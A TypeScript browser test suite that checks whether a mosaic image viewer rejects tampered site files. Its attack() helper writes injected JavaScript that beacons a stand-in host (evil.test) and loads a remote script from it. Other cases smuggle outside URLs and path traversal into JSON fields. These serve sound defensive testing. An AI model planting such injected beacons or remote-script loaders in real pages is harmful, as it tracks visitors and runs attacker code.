/// <reference lib="dom" />
import { cp, mkdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { build, type MosaicJson, serve, type Serving } from '../../src/index.ts';
import { findBrowser, launchBrowser } from '../helpers/browser.ts';
import { type Host, host, pagesShowing } from '../helpers/elsewhere.ts';
import { writeMany, writeWaves } from '../helpers/images.ts';
import { fromDisk, lookAt, open, type PageWindow, settle, type Visit } from '../helpers/page.ts';
import { temporaryFolder } from '../helpers/temporary-folder.ts';

// With CI set, a missing browser fails in `launchBrowser` instead.
const skipped = !findBrowser() && !process.env['CI'];
/** Somebody who would like to know who looks at a mosaic. */
const EVIL = 'http://evil.test/';

declare const window: PageWindow & {
  shows: Record<string, PageWindow['zoomosaic']>;
  /** Set by code of a site that a page has run. */
  isOurs?: boolean;
};

type Json = Record<string, unknown>;

describe.skipIf(skipped)('a mosaic of somebody else', () => {
  let browser: Browser;
  let root: string;
  let sound: string;
  const servings: Serving[] = [];

  beforeAll(async () => {
    browser = await launchBrowser();
    root = await temporaryFolder();
    sound = join(root, 'sound');
    await writeWaves(join(root, 'target.png'), 60, 40, 50);
    await mkdir(join(root, 'images'));
    await writeMany(join(root, 'images'), 12);
    await build({
      target: join(root, 'target.png'),
      images: [join(root, 'images')],
      out: sound,
      columns: 24,
      cellSize: 16,
      layout: ['compact', 'dzi'],
      originals: 'copy',
      catalog: join(root, 'catalog'),
    });
  });

  afterAll(async () => {
    for (const serving of servings) await serving.close();
    await browser?.close();
  });

  /** A copy of the site with a file changed. */
  async function siteWith(name: string, path: string, change: (text: string) => string): Promise<string> {
    const folder = join(root, name.replaceAll(/\W/g, '-'));
    await cp(sound, folder, { recursive: true });
    const text = await readFile(join(folder, path), 'utf8');
    expect(change(text)).not.toBe(text);
    await writeFile(join(folder, path), change(text));
    return folder;
  }

  /** Opens a site's page over http. */
  async function visit(folder: string): Promise<Visit> {
    const serving = await serve({ site: folder, port: 0 });
    servings.push(serving);
    return await open(browser, `${serving.url}index.html?layout=compact`, { reducedMotion: 'reduce' });
  }

  /** Looks at the mosaic from afar, at cells, and at originals. */
  async function lookAround({ page }: Visit): Promise<void> {
    await settle(page);
    const { width, height, originals } = await page.evaluate(() => window.zoomosaic.mosaic);
    const times = 2 ** originals!.levels;
    for (const scale of [0.5, 1, 4]) await lookAt(page, (width * times) / 2, (height * times) / 2, scale / times);
  }

  /** What the page has asked others for. */
  const askedElsewhere = ({ requests }: Visit) =>
    requests.filter((url) => /^\w+:/.test(url) && !url.startsWith('data:') && !url.startsWith('http://127.0.0.1'));

  /** Changes the copy of mosaic.json in a page. */
  const inPage = (change: (mosaic: MosaicJson) => Json) => (page: string) =>
    page.replace(/(id="mosaic">)([^<]*)</, (_, head: string, json: string) => {
      return `${head}${JSON.stringify(change(JSON.parse(json) as MosaicJson))}<`;
    });

  test('is shown with what it has itself, whatever else is told of folders and addresses', async () => {
    const change = (mosaic: MosaicJson): Json => ({
      ...mosaic,
      placement: { ...mosaic.placement, folder: EVIL },
      layouts: { ...mosaic.layouts, compact: { ...mosaic.layouts.compact, folder: EVIL, base: EVIL } },
      base: EVIL,
      baseUrl: EVIL.replace(/\/$/, ''),
      folder: EVIL,
    });
    const opened = await visit(await siteWith('addresses', 'index.html', inPage(change)));
    await lookAround(opened);
    expect(askedElsewhere(opened)).toEqual([]);
    expect(opened.requests).toContain('cells/0_0.js');
    expect(opened.requests).toContain('originals/0/index.js');
    expect(opened.complaints).toEqual([]);
    await opened.page.context().close();
  });

  test.each<[string, (mosaic: MosaicJson) => Json]>([
    ['tile.extension', (mosaic) => ({ ...mosaic, tile: { ...mosaic.tile, extension: `jpg?${EVIL}` } })],
    ['background', (mosaic) => ({ ...mosaic, background: `url(${EVIL})` })],
    ['placement.block', (mosaic) => ({ ...mosaic, placement: { ...mosaic.placement, block: 0 } })],
    ['layouts', (mosaic) => ({ ...mosaic, layouts: null })],
    ['grid.columns', (mosaic) => ({ ...mosaic, grid: { columns: 1e6, rows: 1e6 } })],
    ['pictures', (mosaic) => ({ ...mosaic, pictures: `${EVIL}#` })],
    ['levels[0].level', (mosaic) => ({ ...mosaic, levels: mosaic.levels.map((one) => ({ ...one, level: EVIL })) })],
    ['at most 1048576 bytes', (mosaic) => ({ ...mosaic, more: 'x'.repeat(2 ** 20) })],
  ])('is not shown, and why is said, where %s is not as it should be', async (name, change) => {
    const opened = await visit(await siteWith(name, 'index.html', inPage(change)));
    await opened.page.waitForSelector('#message:not([hidden])');
    expect(await opened.page.textContent('#message')).toContain(name);
    expect(opened.requests.filter((path) => !/^(index\.html|viewer\/|data:)/.test(path))).toEqual([]);
    await opened.page.context().close();
  });

  const BLOCKS: readonly (readonly [string, string, (text: string) => string])[] = [
    ['code before cells', 'cells/0_0.js', (text) => `${attack()}${text}`],
    ['code behind cells', 'cells/0_0.js', (text) => `${text}${attack()}`],
    ['code for cells', 'cells/0_0.js', () => attack()],
    [
      'pictures that do not exist',
      'cells/0_0.js',
      (text) => text.replaceAll(/"[A-Za-z0-9+/=]{9,}/g, (one) => `"${'/'.repeat(one.length - 1)}`),
    ],
    ['cells without end', 'cells/0_0.js', (text) => text.replace(/=*"\)/, `${'A'.repeat(10_000_000)}")`)],
    ['code for originals', 'originals/0/index.js', (text) => `${text}${attack()}`],
    ['endings that lead away', 'originals/0/index.js', (text) => text.replaceAll('"jpg"', `"jpg?/../${EVIL}"`)],
    ['numbers that are addresses', 'originals/0/index.js', (text) => text.replaceAll(/\[(\d+),/g, `["/${EVIL}$1",`)],
    ['numbers that are no pictures', 'originals/0/index.js', (text) => text.replaceAll(/\[(\d+),"/g, '[99,"')],
    [
      'sizes without end',
      'originals/0/index.js',
      (text) => text.replaceAll(/"jpg",\d+,\d+/g, '"",2147483647,2147483647'),
    ],
  ];

  /** Code that tells somebody of the visit. */
  function attack(): string {
    return `window.isOurs = true; new Image().src = ${JSON.stringify(EVIL)}; document.head.append(Object.assign(document.createElement("script"), { src: ${JSON.stringify(`${EVIL}x.js`)} }));\n`;
  }

  test.each(BLOCKS)(
    'is shown as far as it makes sense, with %s, and no code of it runs',
    async (name, path, change) => {
      const opened = await visit(await siteWith(name, path, change));
      await lookAround(opened);
      expect(askedElsewhere(opened)).toEqual([]);
      expect(await opened.page.evaluate(() => window.isOurs)).toBe(undefined);
      const asked = opened.requests.filter((one) => one.startsWith('originals/') && !one.endsWith('index.js'));
      if (path.startsWith('originals/'))
        expect(asked.filter((one) => !/^originals\/0\/\d+_files\/\d+\/\d+_\d+\.jpeg$/.test(one))).toEqual([]);
      // Some of each original at most, however large an index says they are.
      expect(asked.length).toBeLessThan(12 * 64);
      expect(opened.requests).toContain(path);
      await opened.page.context().close();
    },
  );

  test('is refused by other pages, or read and not run', async () => {
    const sites = {
      code: await siteWith('code elsewhere', 'cells/0_0.js', (text) => `${attack()}${text}`),
      sound,
    };
    const hosts: Host[] = [];
    const addresses: Record<string, string> = {};
    for (const [name, folder] of Object.entries(sites)) {
      const theirs = await host(folder, { 'Access-Control-Allow-Origin': '*' });
      hosts.push(theirs);
      addresses[name] = theirs.url;
    }
    const bad = await siteWith('bad elsewhere', 'mosaic.json', (text) => text.replace('"jpg"', '"jpg#"'));
    const refused = await host(bad, { 'Access-Control-Allow-Origin': '*' });
    const pages = pagesShowing(addresses, "drawer: 'canvas', crossOriginPolicy: 'Anonymous'");
    const own = await host(fileURLToPath(new URL('../..', import.meta.url)), {}, pages);
    hosts.push(refused, own);
    const opened = await open(browser, `${own.url}page.html`);
    const { page } = opened;
    await page.waitForFunction(() => window.shows);
    for (const name of Object.keys(sites)) {
      await page.evaluate((which) => (window.zoomosaic = window.shows[which]!), name);
      await lookAround(opened);
    }
    expect(await page.evaluate(() => window.isOurs)).toBe(undefined);
    expect(askedElsewhere(opened)).toEqual([]);
    // As a text, since what bundles tests would have its own idea of an import.
    const message = await page.evaluate<string>(`import('zoomosaic/viewer')
      .then(({ openMosaic }) => openMosaic(${JSON.stringify(refused.url)}))
      .then(() => 'opened', ({ message }) => message)`);
    expect(message).toBe('Expected jpg for tile.extension in mosaic.json but received jpg#');
    await page.context().close();
    for (const one of hosts) await one.close();
  });

  test('is shown in a frame that is shut off, too', async () => {
    const framed = join(root, 'framed');
    await cp(sound, framed, { recursive: true });
    await writeFile(
      join(framed, 'frame.html'),
      '<link rel="icon" href="data:," /><iframe sandbox="allow-scripts" src="index.html?layout=compact" width="800" height="600">',
    );
    const serving = await serve({ site: framed, port: 0 });
    servings.push(serving);
    const { page, requests, complaints } = await open(browser, `${serving.url}frame.html`);
    const frame = page.frame({ url: /index\.html/ })!;
    await frame.waitForFunction(() => window.zoomosaic);
    await frame.evaluate(() => window.zoomosaic.viewer.viewport.zoomTo(40, undefined, true));
    const original = () => requests.some((path) => /^originals\/0\/\d+\.jpg$/.test(path));
    await expect.poll(original, { timeout: 30_000 }).toBe(true);
    expect(requests.filter((path) => path === 'cells/0_0.js').length).toBe(1);
    expect(complaints).toEqual([]);
    await page.context().close();
  });

  test('is shown from disk, too', async () => {
    const opened = await open(browser, `${fromDisk({ folder: sound })}?layout=compact`, { reducedMotion: 'reduce' });
    await lookAround(opened);
    expect(opened.requests).toContain('cells/0_0.js');
    expect(opened.requests.some((path) => /^originals\/0\/\d+\.jpg$/.test(path))).toBe(true);
    expect(opened.complaints).toEqual([]);
    await opened.page.context().close();
  });
});
